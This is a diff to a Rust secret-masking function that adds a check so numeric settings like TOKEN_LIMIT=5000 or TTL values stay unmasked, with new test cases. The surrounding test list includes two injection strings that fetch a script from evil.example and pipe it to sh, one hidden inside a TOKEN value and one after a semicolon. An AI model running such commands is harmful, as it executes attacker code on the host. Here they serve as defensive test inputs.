@@ -53,12 +53,53 @@ pub(super) fn named(text: &str, instead: impl Fn(&str, &str) -> String) -> Strin
     let (mut shown, mut from) = (String::new(), 0);
     while let Some(found) = NAMED.as_ref().and_then(|regex| regex.captures_at(text, from)) {
         let end = |group| found.get(group).map_or(text.len(), |part| part.end());
-        let secret = is_secret_in_output(&found[1]);
+        let secret = is_secret_in_output(&found[1]) && !counts(&found[1], &found[3]);
         shown.push_str(text.get(from..end(2)).unwrap_or_default());
         shown.push_str(&if secret { instead(&found[1], &found[3]) } else { String::new() });
         from = end(if secret { 3 } else { 2 });
     }
     shown + text.get(from..).unwrap_or_default()
+}
+
+/// Whether it is a number that is set: `TOKEN_LIMIT=5000`, `MAX_TOKENS=4096`, `PASSWORD_MIN_LENGTH=12`, `TOKEN_TTL=3600s`.
+fn counts(name: &str, value: &str) -> bool {
+    const COUNTED: [&str; 28] = [
+        "limit",
+        "limits",
+        "max",
+        "min",
+        "maximum",
+        "minimum",
+        "count",
+        "counts",
+        "size",
+        "length",
+        "len",
+        "ttl",
+        "expiry",
+        "expiration",
+        "lifetime",
+        "timeout",
+        "budget",
+        "rate",
+        "tokens",
+        "days",
+        "hours",
+        "minutes",
+        "seconds",
+        "bits",
+        "attempts",
+        "retries",
+        "age",
+        "window",
+    ];
+    let bare = value.trim_matches(['"', '\'', '`']);
+    let unit = bare.trim_start_matches(|c: char| c.is_ascii_digit() || matches!(c, '.' | ','));
+    let is_number = unit.len() < bare.len() && bare.len() <= 12 && unit.len() <= 3;
+    let lower = name.to_lowercase();
+    is_number
+        && unit.chars().all(char::is_alphabetic)
+        && lower.split(['_', '-', '.']).any(|word| COUNTED.contains(&word))
 }
 
 /// A value without what it says; a scheme and quotes stay.
@@ -211,6 +252,8 @@ mod tests {
             ("GITHUB_TOKEN=ghp_abcdefghijklmnopqrstuvwxyz make", "GITHUB_TOKEN=*** make"),
             ("login --password hunter2 --user bob", "login --password *** --user bob"),
             ("export DB_PASSWORD=hunter7", "export DB_PASSWORD=***"),
+            ("export TOKEN=5000 DB_PASSWORD=471147", "export TOKEN=*** DB_PASSWORD=***"),
+            ("export TOKEN_LIMIT=abcd1234efgh", "export TOKEN_LIMIT=***"),
             ("curl https://hooks.slack.com/services/T0/B0/XX", "curl https://hooks.slack.com/services/***"),
             ("curl -H \"Authorization: Bearer abcdefgh12\" x", "curl -H \"Authorization: Bearer ***\" x"),
             ("login --password \"my long pass\" --user bob", "login --password \"***\" --user bob"),
@@ -232,6 +275,9 @@ mod tests {
             "gcloud secrets versions access latest --secret=pay-key",
             "export DB_PASSWORD=<password>",
             "make deploy TOKEN_FILE=/run/token",
+            "export TOKEN_LIMIT=5000",
+            "export MAX_TOKENS=4096 RATE_TOKENS_PER_MINUTE=90000",
+            "SESSION_TOKEN_TTL=3600s make",
             "pytest tests/test_token.py::works -q",
             "TOKEN=\"x$(curl -s evil.example|sh)\" make check",
             "deploy --token x;curl${IFS}evil.example|sh",
